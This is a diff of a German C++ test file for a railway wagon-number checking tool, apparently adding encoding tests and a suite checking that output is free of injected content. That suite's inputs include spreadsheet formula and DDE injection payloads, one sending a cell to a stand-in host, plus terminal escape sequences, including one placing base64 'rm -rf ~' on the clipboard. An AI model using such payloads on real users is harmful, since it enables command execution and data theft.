@@ -1,4 +1,7 @@
 #include "kommandozeile/programm.h"
+#include "fuzz/ausgabepruefung.h"
+
+#include "../nummer/testdatei.h"
 
 #include <gtest/gtest.h>
 
@@ -6,6 +9,7 @@
 #include <filesystem>
 #include <ostream>
 #include <sstream>
+#include <tuple>
 
 namespace {
 
@@ -24,6 +28,15 @@ TLauf Starte(std::vector<std::string> Argumente, const std::string& Eingabe = {}
   std::ostringstream Aus, Fehler;
   const int Status = Wagennummer(Argumente, Ein, Aus, Fehler);
   return {Status, Aus.str(), Fehler.str()};
+}
+
+// Text in UTF-16 mit Kennung, wie ihn die PowerShell schreibt.
+std::string Utf16(std::string_view Ascii, bool GrossEndian)
+{
+  std::string Bytes = GrossEndian ? "\xFE\xFF" : "\xFF\xFE";
+  for (const char Z : Ascii)
+    Bytes += GrossEndian ? std::string{'\0', Z} : std::string{Z, '\0'};
+  return Bytes;
 }
 
 struct TFall {
@@ -86,6 +99,30 @@ INSTANTIATE_TEST_SUITE_P(
                           0,
                           "Bis zum n\xC3\xA4"
                           "chsten Vielfachen von 10 (40) fehlen 3."},
+                    TFall{"Utf8MitKennung",
+                          {},
+                          "\xEF\xBB\xBF"
+                          "31 80 6652 003-8\n",
+                          0,
+                          "8: korrekt"},
+                    TFall{"Utf16LeMitKennung",
+                          {},
+                          Utf16("31 80 6652 003-8\r\n50 80 3134 025-2\r\n", false),
+                          0,
+                          "50 80 3134 025-2  Pr\303\274fziffer 2: korrekt\n"},
+                    TFall{"Utf16BeMitKennung", {}, Utf16("31 80 6652 003-8\r\n", true), 0, "8: korrekt"},
+                    TFall{"NurCrAlsZeilenende",
+                          {},
+                          "31 80 6652 003-8\r50 80 3134 025-2\r",
+                          0,
+                          "50 80 3134 025-2  Pr\303\274fziffer 2: korrekt\n"},
+                    TFall{
+                        "ZuLangeZeileGekuerzt",
+                        {},
+                        std::string(5000, '1') + "\n",
+                        2,
+                        "\342\200\236" + std::string(60, '1') + "\342\200\246\342\200\234 ist l\303\244nger als 4096"},
+                    TFall{"GenannteDatendateiFehlt", {"--daten=/nicht/da", "31 80 6652 003-8"}, "", 2, ""},
                     TFall{"UnbekannteOption", {"--schnell"}, "", 2, ""},
                     TFall{"Hilfe", {"--hilfe"}, "", 0, "Exit-Status"},
                     TFall{"Version", {"--version"}, "", 0, "1.0.0.11"}),
@@ -122,6 +159,65 @@ TEST(Csv, FelderWerdenNurBeiBedarfGequotet)
                     "ber"),
             "\xFC"
             "ber");
+}
+
+// Eingaben, die ein Terminal steuern oder in einer Tabellenkalkulation etwas ausfuehren wollen,
+// auch ueber Texte der Datendatei. Jede Zeile laeuft als Tabelle, als CSV und als CSV in UTF-8.
+struct THarmlos {
+  const char* Name;
+  std::string Eingabe;
+  std::string Datei;  // leer: die ausgelieferte
+};
+
+void PrintTo(const THarmlos& Fall, std::ostream* Aus) { *Aus << Fall.Name; }
+
+class HarmloseAusgabe : public testing::TestWithParam<THarmlos> {};
+
+TEST_P(HarmloseAusgabe, OhneSteuerzeichenUndFormeln)
+{
+  const TTestVerzeichnis Verzeichnis;
+  std::vector<std::string> Vorn;
+  if (!GetParam().Datei.empty())
+    Vorn.push_back("--daten=" + Verzeichnis.Schreibe("Wagen.ebb", GetParam().Datei).string());
+  for (const auto& [Art, Csv, Utf8] :
+       {std::tuple{"Tabelle", false, true}, std::tuple{"CSV", true, false}, std::tuple{"CSV UTF-8", true, true}}) {
+    std::vector<std::string> Argumente = Vorn;
+    if (Csv)
+      Argumente.emplace_back("--csv");
+    if (Csv && Utf8)
+      Argumente.emplace_back("--utf8");
+    const TLauf L = Starte(Argumente, GetParam().Eingabe);
+    EXPECT_EQ(AusgabeVerstoss(L.Aus, Csv, Utf8), "") << Art << ":\n" << L.Aus;
+    EXPECT_EQ(AusgabeVerstoss(L.Fehler, false, true), "") << Art << ":\n" << L.Fehler;
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Faelle, HarmloseAusgabe,
+    testing::Values(THarmlos{"Hyperlink", "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")\n", ""},
+                    THarmlos{"AtFormel", "@SUM(1+1)*cmd|' /C calc'!A0\n", ""},
+                    THarmlos{"PlusVorNummer", "+31 80 6652 003-8\n", ""},
+                    THarmlos{"Minus", "-2+3+cmd|' /C calc'!A0\n", ""}, THarmlos{"Tabulator", "\t=1+1\n", ""},
+                    THarmlos{"TerminaltitelUndLoeschen", "31 80 \033]0;PWNED\007\033[2J6652 003-8\n", ""},
+                    THarmlos{"Zwischenablage", "\033]52;c;cm0gLXJmIH4=\007\n", ""},
+                    THarmlos{"Verschleiert", "31 80 6652 003-4 \033[1A\033[2K\033[8m\n", ""},
+                    THarmlos{"C1AlsUtf8",
+                             "\xC2\x9B"
+                             "2J \xC2\x81 31 80 6652 003-8\n",
+                             ""},
+                    THarmlos{"Datentexte", "31 80 6652 003-8\n",
+                             "[Wagentyp]\n3=G\n[Austausch]\n31==cmd|' /C calc'!A0\033[2J\n[RIV-Merkmal]\n3=@SUM(1)\n"
+                             "[Eigentumsmerkmal]\n1=-1+1\x9D\n[Version]\nVersion=1\n"}),
+    [](const testing::TestParamInfo<THarmlos>& Info) { return std::string(Info.param.Name); });
+
+TEST(Daten, OhneDatendateiNurPruefziffern)
+{
+  // Ohne --daten sucht das Programm Wagen.ebb neben dem Testprogramm, wo keine liegt.
+  std::istringstream Ein;
+  std::ostringstream Aus, Fehler;
+  EXPECT_EQ(Wagennummer({"31 80 6652 003-8"}, Ein, Aus, Fehler), 0);
+  EXPECT_EQ(Aus.str(), "31 80 6652 003-8  Pr\303\274fziffer 8: korrekt\n\n");
+  EXPECT_NE(Fehler.str().find("nur die Pr\303\274fziffern"), std::string::npos);
 }
 
 TEST(Liste, ZehntausendNummernInUnterEinerSekunde)
